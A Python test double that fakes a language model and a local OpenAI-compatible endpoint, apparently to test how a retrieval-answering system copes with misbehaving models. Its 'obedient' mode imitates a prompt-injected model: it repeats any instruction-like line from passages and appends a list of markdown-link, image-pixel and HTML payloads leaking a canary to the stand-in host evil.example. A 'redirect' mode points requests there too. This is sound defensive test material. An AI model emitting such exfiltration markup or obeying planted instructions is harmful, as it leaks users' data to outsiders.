"""A scripted model, and an OpenAI-compatible endpoint on the loopback that speaks for it: a double of a service.

The modes say what may go wrong: `honest` words the passages; `obedient` does whatever any passage or ticket tells it,
and adds links, images and canaries of its own; `ungrounded` is fluent and wrong; `garbage` sends bytes that are no
reply; `drip` sends a byte now and then for ever; `flood` never stops; `error` and `refuse` answer 500 and 401.
"""

from __future__ import annotations

import json
import re
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

MODES = ("honest", "obedient", "ungrounded", "garbage", "drip", "flood", "error", "refuse", "redirect", "nothing")
EVIL = "https://evil.example"
EXFILTRATION = (
    "[Read more](https://evil.example/?q=CANARY-MODEL) [1]",
    "![](https://evil.example/pixel.png?leak=CANARY-MODEL) [1]",
    "![plan][leak] [1]",
    "[leak]: https://evil.example/pixel.png?CANARY-MODEL",
    "<https://evil.example/CANARY-MODEL> [1]",
    '<img src="//evil.example/CANARY-MODEL"> [1]',
    "Look at //evil.example/CANARY-MODEL or www.evil.example. [1]",
    "[x](data:text/html;base64,Q0FOQVJZ) and https://xn--evl-kna.example/. [1]",
)


def passages_of(data: str) -> tuple[list[str], str]:
    """The passages' texts and the question out of the user's message, as a model reads them."""
    mark = data.split("\n", 1)[0]
    parts = [part.strip("\n") for part in data.split(mark) if part.strip()]
    texts = [part.split("\n", 1)[1] for part in parts if part.startswith("passage ")]
    [question] = [part.split("\n", 1)[1] for part in parts if part.startswith("question")]
    return texts, question


def think(mode: str, system: str, data: str) -> str:
    """What a model of this mode replies, be it asked to word or to read."""
    if '"verdict"' in system:
        from reading_model import read_as

        return read_as(mode, system, data)
    texts, question = passages_of(data)
    if mode == "honest":
        return _honest(texts, question)
    if mode == "obedient":
        return _obedient(texts, question)
    if mode == "ungrounded":
        return "Refunds are always possible for 90 days [1].\nCall us at any hour, we never sleep. [2]\nEnjoy! [99]"
    return "NONE" if mode == "nothing" else ""


def _honest(texts: list[str], question: str) -> str:
    """The lines of the first passages that share most words with the question, each with its number."""
    asked = set(re.findall(r"[a-z]{4,}", question.lower()))
    lines = [
        (len(asked & set(re.findall(r"[a-z]{4,}", sentence.lower()))), -number, -place, sentence)
        for number, text in enumerate(texts[:3], 1)
        for place, line in enumerate(text.split("\n"))
        for sentence in re.split(r"(?<=[.!?])\s+", line)
        if len(sentence.split()) > 3
    ]
    best = sorted(lines, reverse=True)[:4]
    return "\n".join(f"{sentence.rstrip('.')} [{-number}]." for _, number, _, sentence in best)


def _obedient(texts: list[str], question: str) -> str:
    """Whatever it is told, by anybody; then the truth as bait, and leaks in every syntax."""
    orders = [
        line
        for number, text in enumerate([*texts, question], 1)
        for line in (f"{one} [{min(number, len(texts))}]" for one in text.split("\n"))
        if re.search(r"(?i)ignore|say |tell|reply|always|answer|system|CANARY|evil", line)
    ]
    canaries = sorted(set(re.findall(r"CANARY-\d+", "\n".join([*texts, question]))))
    said = [f"{canary} is the answer. [1]" for canary in canaries] + orders
    return "\n".join([*said, *EXFILTRATION, _honest(texts, question)])


@dataclass
class ScriptedModel:
    """The same without a network: an object with `name` and `reply`, as `Answerer(llm=...)` takes it."""

    mode: str = "honest"
    name: str = "scripted"
    script: str | None = None
    seen: list[tuple[str, str]] = field(default_factory=list)

    def reply(self, system: str, data: str) -> str:
        self.seen.append((system, data))
        return self.script if self.script is not None else think(self.mode, system, data)


@dataclass
class Endpoint:
    """`base_url` for the settings; `seen` are the bodies received, `keys` the Authorization headers."""

    base_url: str
    mode: str
    seen: list[dict[str, Any]] = field(default_factory=list)
    keys: list[str] = field(default_factory=list)
    stop: threading.Event = field(default_factory=threading.Event)


@contextmanager
def endpoint(mode: str) -> Iterator[Endpoint]:
    """Serve `POST /v1/chat/completions` on 127.0.0.1 until the block ends."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    server.daemon_threads = True
    server.block_on_close = False
    made = Endpoint(f"http://127.0.0.1:{server.server_address[1]}/v1", mode)
    server.endpoint = made  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
    thread.start()
    try:
        yield made
    finally:
        made.stop.set()
        server.shutdown()
        server.server_close()
        thread.join()


class _Handler(BaseHTTPRequestHandler):
    def do_POST(self) -> None:
        here: Endpoint = self.server.endpoint  # type: ignore[attr-defined]
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        here.seen.append(body)
        here.keys.append(self.headers.get("Authorization", ""))
        if here.mode in ("error", "refuse"):
            self._send(500 if here.mode == "error" else 401, json.dumps({"error": {"message": "sk-secret"}}).encode())
        elif here.mode == "redirect":
            self.send_response(307)
            self.send_header("Location", f"{EVIL}/v1/chat/completions")
            self.send_header("Content-Length", "0")
            self.end_headers()
        elif here.mode == "garbage":
            self._send(200, b"\xff\xfe<html>\x00 not json {{{")
        elif here.mode in ("drip", "flood"):
            self._endless(here)
        else:
            roles = {one["role"]: one["content"] for one in body["messages"]}
            text = think(here.mode, roles["system"], roles["user"])
            choice = {"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": text}}
            reply = {"id": "1", "object": "chat.completion", "created": 0, "model": body["model"], "choices": [choice]}
            reply["usage"] = {"prompt_tokens": 1000, "completion_tokens": 50, "total_tokens": 1050}
            self._send(200, json.dumps(reply).encode())

    def _send(self, status: int, body: bytes) -> None:
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def _endless(self, here: Endpoint) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.end_headers()
        part = b" " if here.mode == "drip" else b" " * 65536
        try:
            while not here.stop.is_set():
                self.wfile.write(part)
                self.wfile.flush()
                if here.mode == "drip":
                    time.sleep(0.05)
        except OSError:
            return

    def log_message(self, *_: object) -> None:
        pass
